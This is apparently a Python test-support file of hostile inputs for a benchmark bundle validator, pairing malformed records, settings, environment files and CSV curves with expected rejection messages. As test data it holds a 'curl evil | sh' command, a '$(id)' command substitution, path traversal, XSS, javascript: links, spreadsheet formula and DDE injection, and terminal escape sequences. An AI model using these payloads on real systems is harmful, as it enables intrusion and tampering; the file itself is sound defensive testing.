"""Records, settings, environments and curves that are not what they must be."""

import json
from typing import Any

from bench.bundle.schema import MOST_LAYERS
from tests.support.hostile.common import Case, Members, swapped

DOCUMENTS: dict[str, Case] = {}


def edited(members: Members, path: str, value: Any) -> bytes:
    """With a field of a document set. The path has the member's name first, then those of the objects to go into."""
    member, *parents, name = path.split(".")
    document = json.loads(members[f"{member}.json"])
    place = document
    for parent in parents:
        place = place[parent]
    place[name] = value
    return swapped(members, f"{member}.json", json.dumps(document).encode())


FACTS: dict[str, Any] = {"splits": {}, "task": {}, "model": {}}
METRIC = {"name": "accuracy", "value": 0.5, "loss": 1.0}
FIELDS: dict[str, tuple[str, Any, str]] = {
    "a model that nobody knows": ("bundle.model", "my-rnn", "there is no model 'my-rnn' here"),
    "a task that nobody knows": ("bundle.task", "my-task", "there is no task 'my-task' here"),
    "a name with a lone surrogate": ("bundle.model", "gru\ud800", "model: Input should be a valid string"),
    "a suite by a path": ("bundle.suite", "../../evil", "suite: Extra inputs are not permitted"),
    "a command to run": ("bundle.command", "curl evil | sh", "command: Extra inputs are not permitted"),
    "a later schema": ("bundle.schema", 2, "schema: Input should be 1"),
    "a count of 2**63": ("bundle.steps", 2**63, "less than or equal to 2147483647"),
    "a negative count": ("bundle.epochs", -1, "greater than or equal to 0"),
    "too many parameters": ("bundle.params.total", 10**9, "total: Input should be less than or equal to 16000000"),
    "parts that do not add up": ("bundle.params.core", 1, "the parts do not add up"),
    "a part that is negative": ("bundle.params.total", -1, "greater than or equal to 0"),
    "a negative seed": ("bundle.seed", -1, "seed: Input should be greater than or equal to 0"),
    "more bytes than there are": ("bundle.peak_memory_host", 2**63, "less than or equal to 4611686018427387904"),
    "less than no bytes": ("bundle.peak_memory_host", -1, "greater than or equal to 0"),
    "seconds before the start": ("bundle.wall_seconds", -1.0, "greater than or equal to 0"),
    "seconds without end": ("bundle.wall_seconds", 1e10, "less than or equal to 1000000000"),
    "a metric below zero": ("bundle.metrics.test.value", -0.1, "greater than or equal to 0"),
    "a giant metric": ("bundle.metrics.test.value", 1e31, "less than or equal to"),
    "a giant loss": ("bundle.metrics.test.loss", 1e31, "less than or equal to"),
    "a giant negative loss": ("bundle.metrics.test.loss", -1e31, "greater than or equal to"),
    "a giant name": ("bundle.model", "a" * 100, "at most 64 characters"),
    "very many metrics": ("bundle.metrics", {f"a{n}": METRIC for n in range(99)}, "at most 16 items"),
    "very many splits": ("bundle.facts.splits", {f"a{n}": "0" * 64 for n in range(99)}, "at most 16 items"),
    "very many facts": ("bundle.facts.task", {f"a{n}": "" for n in range(99)}, "at most 32 items"),
    "very many other facts": ("bundle.facts", FACTS | {f"a{n}": 1 for n in range(99)}, "more than 16 other facts"),
    "a fact with an escape sequence": ("bundle.facts.cpu", "\x1b[31m", "facts.cpu: text has a character"),
    "a fact with facts of facts": ("bundle.facts.cpu", {"a": {"b": 1}}, "facts.cpu: neither null"),
    "a fact's name that is none": ("bundle.facts.<b>", 1, "facts.<b>: String should match pattern"),
    "very many sources": ("bundle.config_source", {f"a{n}": "flag" for n in range(999)}, "at most 128 items"),
    "very many settings": ("config.training", {f"a{n}": 1 for n in range(99)}, "at most 64 items"),
    "a setting's name that is giant": ("config.training." + "a" * 100, 1, "at most 64 characters"),
    "a number as text": ("bundle.steps", "34", "steps: Input should be a valid integer"),
    "truth as a number": ("bundle.seed", True, "seed: Input should be a valid integer"),
    "a seed of tuning's": ("bundle.seed", 10_000, "less than or equal to 9999"),
    "an id that is none": ("bundle.run_id", "../../../../etc/", "run_id: String should match pattern"),
    "a status that is none": ("bundle.status", "interrupted", "status: Input should be 'finished'"),
    "a finished run without a result": ("bundle.metrics", {}, "a finished run has metrics"),
    "a finished run with a reason": ("bundle.reason", "luck", "a finished run has a best epoch, and no reason"),
    "a failure with a result": ("bundle.status", "failed", "a run that did not finish has a reason, and no metrics"),
    "a giant text": ("bundle.reason", "a" * 50_000, "at most 500 characters"),
    "a text with an escape sequence": ("bundle.reason", "\x1b]0;evil\x07", "can't be printed"),
    "a text with a lone surrogate": ("bundle.reason", "\udfff", "reason: Input should be a valid string"),
    "a text of several lines": ("bundle.reason", "one\ntwo", "can't be printed"),
    "a time beyond time": ("bundle.finished_at", "9999-12-31T23:59:59-12:00", "is between 2020 and 2100"),
    "a time without a zone": ("bundle.finished_at", "2026-01-01T00:00:00", "has a time zone"),
    "a time that is a number": ("bundle.finished_at", 1e9, "a time is written as text"),
    "an infinite metric": ("bundle.metrics.test.value", float("inf"), "Infinity is not a number of JSON"),
    "a metric that is not a number": ("bundle.metrics.test.value", float("nan"), "NaN is not a number of JSON"),
    "a split by a path": ("bundle.facts.splits", {"../test": "0" * 64}, "facts.splits"),
    "a hash that is none": ("bundle.source_hash", "$(id)", "source_hash: String should match pattern"),
    "a source of no setting": ("bundle.config_source", {"nothing": "flag"}, "names no setting: nothing"),
    "a depth that takes for ever": ("config.wrapper.depth", 10**6, f"depth=1000000 is beyond {MOST_LAYERS}"),
    "a width that fills the memory": ("config.model.hidden_size", 10**9, "hidden_size=1000000000 is beyond 100,000"),
    "a list that does": ("config.model.freqs", [0.5] * 5_000, "freqs: neither null"),
    "a setting with settings": ("config.training.lr", {"a": 1}, "lr: neither null"),
    "a setting's name that is none": ("config.model.__init__ x", 1, "__init__ x.[key]: String should match pattern"),
}
for _what, (_path, _value, _message) in FIELDS.items():
    DOCUMENTS[_what] = (lambda members, path=_path, value=_value: edited(members, path, value), _message)

NAMES = {
    "a path": "../models/gru",
    "a file": "models/gru.py",
    "an absolute path": "/tmp/evil.py",
    "the name of a file with its hash": "gru@12345678",
    "a module": "os.path",
    "HTML": "<img src=x onerror=alert(1)>",
    "a formula": '=HYPERLINK("http://evil")',
    "Markdown": "[gru](javascript:alert(1))",
    "an escape sequence": "gru\x1b[2J",
    "a text that is turned round": "gru\u202etxt",
    "a private file": "_scan",
    "nothing": "",
    "in capitals": "GRU",
}
for _what, _name in NAMES.items():
    for _field in ("model", "task", "wrapper"):
        DOCUMENTS[f"a {_field} that is {_what}"] = (
            lambda members, field=_field, name=_name: edited(members, f"bundle.{field}", name),
            f"bundle.json: {_field}: String should match pattern",
        )


def written(members: Members, text: str) -> bytes:
    """With a piece of text put before the seed."""
    return swapped(members, "bundle.json", members["bundle.json"].replace(b'"seed": ', text.encode() + b'"seed": ', 1))


DOCUMENTS |= {
    "a number beyond all floats": (lambda members: written(members, '"x": 1e999, '), "x: Extra inputs"),
    "an infinite number": (lambda members: edited_text(members, "wall_seconds", "1e999"), "wall_seconds: Input should"),
    "a name given twice": (lambda members: written(members, '"seed": 1, '), "a name is given twice"),
    "a number of too many digits": (lambda members: written(members, f'"x": {"9" * 20_000}, '), "Exceeds the limit"),
    "deep JSON": (lambda members: written(members, f'"x": {"[" * 20_000}{"]" * 20_000}, '), "nested too deeply"),
    "no JSON": (lambda members: swapped(members, "bundle.json", b"<html>"), "bundle.json: Expecting value"),
    "no object": (lambda members: swapped(members, "bundle.json", b"[]"), "Input should be a valid dictionary"),
    "no UTF-8": (lambda members: swapped(members, "bundle.json", b"\xff\xfe"), "'utf-8' codec can't decode"),
}  # fmt: skip


def edited_text(members: Members, name: str, value: str) -> bytes:
    """A field's value as it is written."""
    document = json.loads(members["bundle.json"]) | {name: "VALUE"}
    return swapped(members, "bundle.json", json.dumps(document).replace('"VALUE"', value).encode())


ENVIRONMENTS = {
    "with an escape sequence": (b'cpu: "\\u001b[31m"\n', "environment.txt: cpu: text has a character"),
    "that is no JSON": (b"cpu: import os\n", "environment.txt: Expecting value"),
    "of bytes": (b"\xff\x00: 1\n", "environment.txt: "),
    "that is deep": (b"cpu: " + b"[" * 30_000 + b"\n", "environment.txt: nested too deeply"),
    "of very many lines": (b"".join(b"a%d: 1\n" % n for n in range(99)), "at most 64 items"),
    "with a name twice": (b"cpu: 1\ncpu: 2\n", "environment.txt: a name is given twice"),
    "with a giant text": (b'cpu: "' + b"a" * 5_000 + b'"\n', "environment.txt: cpu: neither null"),
}
for _what, (_content, _message) in ENVIRONMENTS.items():
    DOCUMENTS[f"an environment {_what}"] = (
        lambda members, content=_content: swapped(members, "environment.txt", content), _message,
    )  # fmt: skip

HEADING = b"name,epoch,step,value\n"
CURVES = {
    "with a formula": (HEADING + b"=cmd|' /C calc'!A1,1,1,0.5\n", "line 2 is not"),
    "with a value that is not a number": (HEADING + b"train/loss,1,1,nan\n", "line 2 is not"),
    "with an infinite value": (HEADING + b"train/loss,1,1,inf\n", "line 2 is not"),
    "with a value beyond all floats": (HEADING + b"train/loss,1,1,1e+999\n", "line 2 is not"),
    "with a negative step": (HEADING + b"train/loss,1,-1,0.5\n", "line 2 is not"),
    "with a step of 2**63": (HEADING + b"train/loss,1,9223372036854775808,0.5\n", "line 2 is not"),
    "with a field too many": (HEADING + b"train/loss,1,1,0.5,0.5\n", "line 2 is not"),
    "with HTML": (HEADING + b"<b>loss</b>,1,1,0.5\n", "line 2 is not"),
    "of bytes": (HEADING + b"\xff\xfe,1,1,0.5\n", "line 2 is not"),
    "with two values at one step": (HEADING + b"lr,1,1,0.5\nlr,2,1,0.6\n", "two values at one step"),
    "without a heading": (b"lr,1,1,0.5\n", "curves.csv must be 'name,epoch,step,value'"),
    "without an end of line": (HEADING + b"lr,1,1,0.5", "curves.csv must be 'name,epoch,step,value'"),
    "without end": (HEADING + b"lr,1,1,1.0\n" * 200_000, "at most 100,000 lines"),
}
for _what, (_content, _message) in CURVES.items():
    DOCUMENTS[f"curves {_what}"] = (
        lambda members, content=_content: swapped(members, "curves.csv", content), _message,
    )  # fmt: skip
